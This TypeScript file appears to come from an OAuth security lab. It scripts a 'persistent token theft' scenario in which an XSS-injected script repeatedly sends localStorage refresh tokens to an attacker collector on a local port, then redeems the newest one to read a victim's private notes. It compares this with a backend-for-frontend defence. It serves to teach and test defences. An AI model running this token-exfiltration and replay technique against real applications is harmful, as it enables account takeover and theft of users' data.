import type { Page } from 'playwright-core';
import type { LootItem } from '../engine/lab-connection.ts';
import { defineAttack } from '../engine/define-attack.ts';
import { pollFor } from '../library/attack-support.ts';
import { readJwt } from '../library/attack-tools.ts';
import { readableByScripts } from '../library/browser-view.ts';
import { fieldsOf, findExchanges, JWT_SHAPE } from '../library/exchanges.ts';
import { ALICE_SECRET_NOTE, readNotes } from '../library/notes-view.ts';
import { signInThroughSpa } from '../library/sign-in.ts';
import { loadAppWithXss, lootFrom, storageIn } from '../library/xss.ts';
import { bffAccessTokenExpiry, laterBy, moveLabTimePast } from '../library/time-travel.ts';
import { readLifetimes } from '../library/lifetimes.ts';

const REFRESH_TOKEN_KEY = 'lab.refresh_token';
/** Where the app keeps its access token in the anti-pattern (spa/src/token-storage.ts). */
const ACCESS_TOKEN_KEY = 'lab.access_token';

/** The refresh tokens the persistent-theft reports carried, in the order they arrived, without repeats. */
function stolenRefreshTokens(reports: readonly LootItem[]): string[] {
  const tokens = reports.map((report) => storageIn(report)[REFRESH_TOKEN_KEY]).filter((token): token is string => typeof token === 'string' && token !== '');
  return tokens.filter((token, index) => tokens.indexOf(token) === index);
}

/**
 * Persistent token theft (OAuth 2.0 for Browser-Based Applications, "Malicious JavaScript
 * Payloads": Persistent Token Theft; "Attack Consequences": Exploiting Stolen Refresh Tokens).
 * The injected script stays in the page and sends the newest tokens every time the app refreshes
 * them. Refresh-token rotation detects a stolen token only when an old one is used again; an
 * attacker who always holds the newest one never trips it.
 */
export const [persistentTheft, persistentTheftWeakened] = defineAttack({
  id: 'attack-persistent-theft',
  title: 'Persistent token theft: an injected script keeps sending the newest refresh token, so rotation never sees a reuse',
  threat:
    'OAuth 2.0 for Browser-Based Applications, "Malicious JavaScript Payloads": Persistent Token Theft; "Attack Consequences": Exploiting Stolen Refresh Tokens',
  defence: 'bff-pattern',
  weakenedMode: 'public-client',
  alwaysWeaken: ['spa-csp'],
  teaches:
    "Refresh-token rotation catches a stolen refresh token when the thief and the app both use copies of the same one. A script that stays in the page sidesteps it: it sends every new refresh token as the app stores it, and once alice closes the tab, Mallory redeems the newest one, which nobody has used yet, so the authorization server sees a normal refresh and the grant lives on in her hands. With the BFF the refreshes happen on the back channel and the new tokens go into the BFF's session store: the script watches the browser's storage for as long as it likes and never sees one.",
  prerequisites: [
    'alice (Resource Owner) signs in to the app in her browser (User Agent).',
    "Access tokens live as long as the lab issues them (5 min, the lab's default); refresh-token rotation is on. Step 3 happens once alice's access token has expired: the lab's clock (every service's, and the browser's) moves past it instead of waiting, so the app refreshes it first.",
    "The app has an XSS bug: the lab's hook makes its page load Mallory's \"persistent-theft\" script. It reads web storage and cookies every 250 ms and POSTs them to Mallory's collector (http://[::1]:6660/collect by default) each time they change, for as long as the page stays open.",
    "The SPA's Content-Security-Policy is off in both runs: its connect-src would stop the reports, and this scenario is about what there is to steal.",
  ],
  async run({ topology, lab, step, newUserAgent, fetchAs }, { defended }) {
    const api = topology['resource-api'].url;
    const issuer = topology.authserver.url;
    const lifetime = (await readLifetimes(lab)).accessToken;
    await lab.clearLoot();
    const browser = await newUserAgent();
    const page = await browser.newPage();

    await step(
      { actor: 'Resource Owner', action: 'signs in to the app', look: defended ? 'the tokens go to the BFF' : 'the tokens go to localStorage' },
      async (s) => {
        await signInThroughSpa(page, topology, 'alice');
        s.expect('the app shows alice signed in', 'alice', await page.getByTestId('user-name').textContent());
        s.sees(defended ? { browser: 'bff_session (HttpOnly)', bff: "alice's tokens" } : { browser: "alice's access, refresh and ID tokens in localStorage" });
      },
    );

    await step(
      {
        actor: 'Attacker',
        action: "her script loads with alice's page (the XSS) and stays: it sends the storage now and every time it changes",
        look: 'the first report at /collect/persistent-theft',
      },
      async (s) => {
        const run = await loadAppWithXss(lab, page, 'persistent-theft', { waitFor: 'running' });
        const first = await pollFor(async () => (await lootFrom(lab, 'persistent-theft'))[0]);
        s.check(
          "the script is running in alice's page and its first report arrived",
          'a report',
          first ? 'reported' : `no report (script ${run.status})`,
          first !== undefined,
        );
        if (defended) {
          s.expect('it found nothing: empty storage', {}, storageIn(first));
          s.sees({ browser: 'a script that keeps watching an empty storage', attacker: 'an empty report' });
        } else {
          s.checkLeak(
            "it found alice's refresh token",
            'lab.refresh_token: …',
            storageIn(first)[REFRESH_TOKEN_KEY]?.slice(0, 8),
            typeof storageIn(first)[REFRESH_TOKEN_KEY] === 'string',
          );
          s.sees({ browser: 'a script that keeps watching localStorage', attacker: "alice's current tokens" });
        }
      },
    );

    await step(
      {
        actor: 'Resource Owner',
        action: `adds a note ${laterBy(lifetime)}: her access token has expired, so the app refreshes it first`,
        look: defended ? 'who refreshes, and where the new tokens go' : "the refresh from the page, and the script's next report",
      },
      async (s) => {
        // The lab's clock moves past the expiry of the access token, wherever the app keeps it: the
        // BFF's session says when it ends; in the anti-pattern, the token in the page does (its exp).
        const expiresAt = (await bffAccessTokenExpiry(page)) ?? (await accessTokenExpiryInPage(page));
        if (expiresAt !== undefined) await moveLabTimePast(s, lab, expiresAt);
        const text = `Alice's note while Mallory watches (${new Date().toISOString()})`;
        await page.getByTestId('note-input').fill(text);
        await page.getByTestId('add-note-button').click();
        await page.getByText(text).first().waitFor();
        const refreshes = findExchanges(await s.exchanges(), { to: 'authserver', method: 'POST', path: '/token' }).filter(
          (event) => fieldsOf(event.requestBody).grant_type === 'refresh_token',
        );
        if (defended) {
          s.check(
            'the BFF refreshes on the back channel: grant_type=refresh_token from bff, 200',
            'bff → /token, 200',
            refreshes.map((event) => `${event.from} → /token, ${event.status} (${event.channel} channel)`),
            refreshes.length > 0 && refreshes.every((event) => event.from === 'bff' && event.channel === 'back' && event.status === 200),
          );
          const visible = await readableByScripts(page);
          s.expect("the browser's storage stays empty", { cookie: '', localStorage: {}, sessionStorage: {} }, visible);
          s.note(
            "The new access token and the rotated refresh token went from the authorization server straight into the BFF's session store. Nothing in the browser changed, so the script had nothing new to send.",
          );
          s.sees({ browser: 'nothing new', bff: 'a new access token and a rotated refresh token', attacker: 'nothing new' });
        } else {
          s.checkLeak(
            'the page refreshes itself: grant_type=refresh_token from the browser, 200',
            'user-agent → /token, 200',
            refreshes.map((event) => `${event.from} → /token, ${event.status}`),
            refreshes.length > 0 && refreshes.every((event) => event.from === 'user-agent' && event.status === 200),
          );
          const reports = await pollFor(async () => {
            const tokens = stolenRefreshTokens(await lootFrom(lab, 'persistent-theft'));
            return tokens.length >= 2 ? tokens : undefined;
          });
          s.checkLeak(
            'the script reported the rotated refresh token too: two different ones so far',
            'at least 2 different refresh tokens',
            reports?.length ?? 0,
            (reports?.length ?? 0) >= 2,
          );
          s.note('Rotation did its job: each refresh token was used once and replaced. The script simply sent each replacement along.');
          s.sees({ browser: 'the new tokens in localStorage', attacker: "every refresh token alice's app has held, the newest included" });
        }
      },
    );

    let newest: string | undefined;
    await step({ actor: 'Resource Owner', action: 'closes her tab; the script stops with it', look: "what Mallory's collector holds by now" }, async (s) => {
      // Wait until the script has sent what the page holds now (it reports within 250 ms of a change).
      const current = defended ? undefined : (await readableByScripts(page)).localStorage[REFRESH_TOKEN_KEY];
      const tokens = defended
        ? []
        : ((await pollFor(async () => {
            const stolen = stolenRefreshTokens(await lootFrom(lab, 'persistent-theft'));
            return stolen.at(-1) === current ? stolen : undefined;
          })) ?? stolenRefreshTokens(await lootFrom(lab, 'persistent-theft')));
      await page.close();
      const reports = await lootFrom(lab, 'persistent-theft');
      newest = stolenRefreshTokens(reports).at(-1);
      if (defended) {
        s.check(
          'reports arrived, and none holds a token',
          'no token in any report',
          reports.map((report) => JSON.stringify(report.data).slice(0, 60)),
          reports.length > 0 && reports.every((report) => !carriesToken(report)),
        );
        s.expect('no refresh token at all', [], stolenRefreshTokens(reports));
        s.sees({ attacker: 'reports of an empty storage', bff: "alice's current tokens, as always" });
      } else {
        s.checkLeak('several reports with different refresh tokens', 'at least 2', tokens.length, tokens.length >= 2);
        s.checkLeak(
          "the last one is the refresh token alice's app held when she left",
          'the same token',
          newest === current ? 'the same' : 'a different one',
          newest !== undefined && newest === current,
        );
        s.note('Closing the tab ends the script, but not the grant: the newest refresh token has not been used by anyone yet.');
        s.sees({ browser: 'closed', attacker: 'the one refresh token the authorization server will still accept' });
      }
    });

    await step(
      {
        actor: 'Attacker',
        action: `redeems the newest stolen refresh token at ${issuer}/token, as the public client spa-public`,
        look: 'whether rotation notices anything',
      },
      async (s) => {
        if (defended) {
          s.expect('she has no refresh token to redeem', undefined, newest);
          s.note(
            'The BFF refreshed as often as the app needed; every new refresh token went into its session store, never into the page the script was watching.',
          );
          s.sees({ attacker: 'nothing to redeem', bff: 'the only holder of the refresh token' });
          return;
        }
        const response = await fetchAs('attacker', `${issuer}/token`, {
          method: 'POST',
          headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
          body: new URLSearchParams({ grant_type: 'refresh_token', refresh_token: newest ?? '', client_id: 'spa-public', resource: api }),
        });
        const tokens = (await response.json().catch(() => ({}))) as { access_token?: string; refresh_token?: string; error?: string };
        s.expectLeak('200: new tokens, no reuse detected', 200, response.status);
        s.checkLeak(
          'a new access token and a new refresh token for Mallory',
          'both',
          tokens.error ?? Object.keys(tokens),
          JWT_SHAPE.test(tokens.access_token ?? '') && typeof tokens.refresh_token === 'string',
        );
        s.note(
          "The newest refresh token had never been used, so to the authorization server this is the app refreshing as usual. The grant now continues in Mallory's hands, rotation and all, for as long as the refresh token lifetime allows. (If alice comes back, her app will refresh with the token Mallory has just used; that reuse revokes the grant, Mallory's part included. Until then, the grant is Mallory's.)",
        );
        const notes = await fetchAs('attacker', `${api}/notes`, { headers: { Authorization: `Bearer ${tokens.access_token ?? ''}` } });
        const list = readNotes(await notes.json().catch(() => ({})));
        s.expectLeak("and with the new access token, alice's notes: 200", { status: 200, owner: 'alice' }, { status: notes.status, owner: list.owner });
        s.checkLeak('her private note among them', ALICE_SECRET_NOTE, list.texts, list.texts.includes(ALICE_SECRET_NOTE));
        s.sees({ attacker: 'a live grant for alice: fresh access tokens on demand, and her notes', authserver: 'a normal refresh by spa-public' });
      },
    );
  },
});

/** When the access token the page keeps in localStorage expires (its exp, epoch ms of the lab's time); undefined when it keeps none. */
async function accessTokenExpiryInPage(page: Page): Promise<number | undefined> {
  const token = (await readableByScripts(page)).localStorage[ACCESS_TOKEN_KEY];
  if (!token) return undefined;
  const exp = Number(readJwt(token).payload.exp);
  return Number.isFinite(exp) ? exp * 1000 : undefined;
}

/** True when a report carries anything that looks like a token (a JWT, or a refresh token entry). */
function carriesToken(report: LootItem): boolean {
  const text = JSON.stringify(report.data);
  return JWT_SHAPE.test(text) || text.includes(REFRESH_TOKEN_KEY);
}
